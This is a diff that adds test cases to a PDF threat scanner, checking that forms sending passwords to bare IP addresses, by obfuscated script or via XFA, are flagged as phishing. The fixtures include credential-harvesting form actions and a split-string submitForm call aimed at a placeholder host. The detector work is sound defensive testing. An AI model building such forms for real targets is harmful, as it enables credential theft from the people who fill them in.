@@ -188,6 +188,49 @@ suite('the events of a field', () => {
   })
 })
 
+suite('a form with a password', () => {
+  const send = (address: string) => `<< /S /SubmitForm /F << /FS /URL /F (${address}) >> >>`
+  const field = (name: string, rest = '') => `<< /Subtype /Widget /FT /Tx /T ${name} ${rest} >>`
+  const form = (action: string, ...fields: string[]) =>
+    pdf([catalog(''), `<< /Subtype /Widget /FT /Btn /Ff 65536 /T (ok) /A ${action} >>`, ...fields])
+  const secret = field('(a)', '/Ff 8192')
+  const login = [field('(email)'), field('(password)')]
+  const registration = ['(name)', '(street)', '(city)', '(e-mail)'].map((name) => field(name))
+  const NAMELESS = 'http://203.0.113.5/p'
+  const cases: [string, Uint8Array, string[]][] = [
+    ['goes to a server without a name', form(send(NAMELESS), secret), ['Phishing!']],
+    ['goes there by a script', form(js('this.submitForm("ht" + "tp://203.0.113.5/p")'), ...login), ['Phishing!']],
+    [
+      'has a name in UTF-16 and flags elsewhere',
+      form(send(NAMELESS), field('<FEFF0061>', '/Ff 5 0 R'), '8192', '8192'),
+      ['Phishing!'],
+    ],
+    ['is for a mailbox', form(send('http://a.example.com/p'), ...login), ['Phishing!']],
+    [
+      'says so in its hint',
+      form(send('http://a.example.com/p'), ...registration, field('(b)', '/Ff 8192 /TU (Outlook)')),
+      ['Phishing!'],
+    ],
+    ['is one of many fields', form(send('http://a.example.com/p'), ...registration, secret), ['PasswordForm']],
+    ['goes to an encrypted server', form(send('https://a.example.com/p'), ...login), []],
+    ['goes to a server of the company', form(send('http://10.1.2.3/p'), ...login), []],
+    ['is missing', form(send(NAMELESS), ...registration, field('(passport)')), []],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
+
+  test('in XML', () => {
+    const xml = (target: string) =>
+      threats(
+        pdf([
+          catalog('/AcroForm << /XFA 2 0 R >>'),
+          stream('', `<field><ui><passwordEdit/></ui></field><event><submit target="${target}"/></event>`),
+        ]),
+      )
+    assert.deepEqual(xml(NAMELESS), ['Phishing!'])
+    assert.deepEqual(xml('https://a.example.com/p'), [])
+  })
+})
+
 suite('a script', () => {
   const cases: [string, Uint8Array, string[]][] = [
     ['shows a message', script('app.alert("Hello")'), []],
